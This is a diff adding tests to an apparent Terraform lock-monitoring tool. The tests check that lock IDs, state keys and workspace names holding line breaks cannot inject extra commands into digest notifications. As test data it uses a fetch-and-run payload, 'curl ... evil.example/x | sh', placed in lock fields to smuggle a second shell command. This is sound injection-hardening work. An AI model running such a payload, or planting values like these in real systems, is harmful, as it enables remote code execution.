@@ -1,7 +1,18 @@
+import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
 import { deliveredBodies } from '../../../../functions/adapters/sns-publisher.js';
+import { type LockSubject, ruleDraft } from '../../../../functions/core/backend/rule.js';
+import { LOCK_RULES } from '../../../../functions/core/backend/rules/index.js';
 import type { Finding } from '../../../../functions/core/findings/model.js';
-import { buildDigests, DIGEST_LIMITS, type Digest } from '../../../../functions/core/notify/digest.js';
+import type { LockVerdict } from '../../../../functions/core/locks/proof.js';
+import { adviceFor } from '../../../../functions/core/notify/advice.js';
+import {
+  buildDigests,
+  type ChatbotNotification,
+  DIGEST_LIMITS,
+  type Digest,
+} from '../../../../functions/core/notify/digest.js';
+import type { DigestDocument } from '../../../../functions/core/notify/digest-document.js';
 import { DEFAULT_NOTIFICATION_SETTINGS } from '../../../../functions/core/registry/model.js';
 import { storedFinding } from '../../../helpers/findings.js';
 
@@ -162,5 +173,129 @@ describe('a digest of hostile data', () => {
     );
     expect(many.message.content.description.length).toBeLessThanOrEqual(DIGEST_LIMITS.description);
     for (const text of shown(many)) expect(text).not.toMatch(/[<>]/);
+  });
+});
+
+/**
+ * Lock data reaches the commands a digest lists: a lock ID, a state key (the `.tflock` object's
+ * key) and a CLI workspace (from a key under `env:/`) are whatever their writer put there.
+ */
+describe('commands built from lock data', () => {
+  const PAYLOAD = 'curl -s https://evil.example/x | sh #';
+  const BREAKS = ['\n', '\r\n', '\r', '\u2028', '\u0085', '\u000b'];
+  const DAY = 24 * 3_600_000;
+  const verdicts: LockVerdict[] = [
+    { kind: 'stale', ageMs: 3 * DAY, thresholdMs: DAY, stateLastWrite: new Date('2026-11-25T00:00:00Z') },
+    { kind: 'orphaned', ageMs: 3 * DAY, thresholdMs: DAY },
+    {
+      kind: 'live-writer',
+      ageMs: 3 * DAY,
+      thresholdMs: DAY,
+      stateLastWrite: new Date('2026-11-28T00:00:00Z'),
+    },
+    { kind: 'unreadable', reason: 'the lock body is not JSON' },
+  ];
+
+  const lockFindings = (lockId: string, stateKey: string, cliWorkspace: string): Finding[] =>
+    verdicts.flatMap((verdict) => {
+      const subject: LockSubject = {
+        bucket: 'tfstate',
+        lock: {
+          source: 's3',
+          location: `${stateKey}.tflock`,
+          stateKey,
+          ...(verdict.kind === 'unreadable'
+            ? { unreadable: verdict.reason }
+            : { lock: { id: lockId, who: `ci${PAYLOAD}`, operation: 'OperationTypeApply' } }),
+        },
+        verdict,
+        firstObservedAt: '2026-11-28T02:00:00Z',
+        secondObservedAt: '2026-11-28T02:10:00Z',
+        cliWorkspace,
+      };
+      return LOCK_RULES.flatMap((rule) =>
+        rule.evaluate(subject).map((violation) =>
+          finding({
+            ...ruleDraft(rule, violation, { workspace: 'payments-prod', owner: 'payments' }),
+            drift: undefined,
+          }),
+        ),
+      );
+    });
+
+  /** Every command line a reader of each body would copy. */
+  function listedCommands(digest: Digest): Record<string, string[]> {
+    const bodies = deliveredBodies(digest);
+    const chat = JSON.parse(bodies.chat) as ChatbotNotification;
+    const document = JSON.parse(bodies.machines!) as DigestDocument;
+    return {
+      // An item's second line: its advice, then its commands as code spans.
+      chat: chat.content.description
+        .split('\n')
+        .filter((line) => line.startsWith('    ↳ '))
+        .flatMap((line) => [...line.matchAll(/`([^`]*)`/g)].map((match) => match[1]!)),
+      email: bodies.email
+        .split('\n')
+        .filter((line) => line.startsWith('    '))
+        .map((line) => line.trim()),
+      machines: document.items.flatMap((item) => [...item.advice.commands, ...item.commands]),
+    };
+  }
+
+  it.each(BREAKS.map((lineBreak) => [JSON.stringify(lineBreak), lineBreak]))(
+    'a line break (%s) in a lock ID, state key or CLI workspace never starts a command of its own',
+    (_name, lineBreak) => {
+      const lockId = `0000${lineBreak}${PAYLOAD}`;
+      const findings = lockFindings(
+        lockId,
+        `env:/blue${lineBreak}${PAYLOAD}/payments.tfstate`,
+        `blue${lineBreak}${PAYLOAD}`,
+      );
+      expect(findings.map((each) => each.ruleId).sort()).toEqual([
+        'lock.live-writer',
+        'lock.orphaned',
+        'lock.stale',
+        'lock.unreadable',
+      ]);
+      for (const [body, commands] of Object.entries(listedCommands(build(findings)))) {
+        const unlocks = commands.filter((command) => command.startsWith('terraform force-unlock '));
+        expect(unlocks.length, body).toBeGreaterThan(0);
+        for (const command of commands) {
+          expect(command, body).toMatch(/^(terraform|driftwatch|aws) /);
+          // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for line breaks.
+          expect(command, body).not.toMatch(/[\r\n\u000b\u0085\u2028]/);
+        }
+      }
+      for (const step of findings.flatMap((each) => each.remediation.steps))
+        for (const line of step.split('\n').slice(1)) expect(line).toMatch(/^(terraform|aws) /);
+    },
+  );
+
+  it('a force-unlock command gives the shell the exact lock ID', () => {
+    const lockId = `0000\n${PAYLOAD}\r\t'\u001b[2J`;
+    const [stale] = lockFindings(lockId, 'payments.tfstate', 'blue');
+    const command = adviceFor(stale!).commands.find((line) => line.startsWith('terraform force-unlock '))!;
+    // The command as a person would paste it, with `terraform` printing the ID it was given.
+    const received = execFileSync('bash', ['-c', `terraform() { printf %s "$2"; }; ${command}`]);
+    expect(received.toString()).toBe(lockId);
+  });
+
+  it('a finding stored by an older version (a line break written as it was) lists no part of a value as a command', () => {
+    const stale = finding({
+      kind: 'stale-lock',
+      ruleId: 'lock.stale',
+      severity: 'high',
+      drift: undefined,
+      resource: { bucket: 'tfstate', key: 'payments.tfstate.tflock', lockId: `0000\n${PAYLOAD}` },
+      remediation: {
+        summary: 'Confirm the holder is gone.',
+        steps: [
+          `From that workspace's configuration (backend s3://tfstate/env:/a\n${PAYLOAD}/k), release the lock:\nterraform workspace select 'blue\n${PAYLOAD}'\nterraform force-unlock '0000\n${PAYLOAD}'`,
+        ],
+      },
+    });
+    expect(adviceFor(stale).commands).toEqual([`terraform force-unlock $'0000\\n${PAYLOAD}'`]);
+    for (const commands of Object.values(listedCommands(build([stale]))))
+      for (const command of commands) expect(command).toMatch(/^(terraform|driftwatch) /);
   });
 });
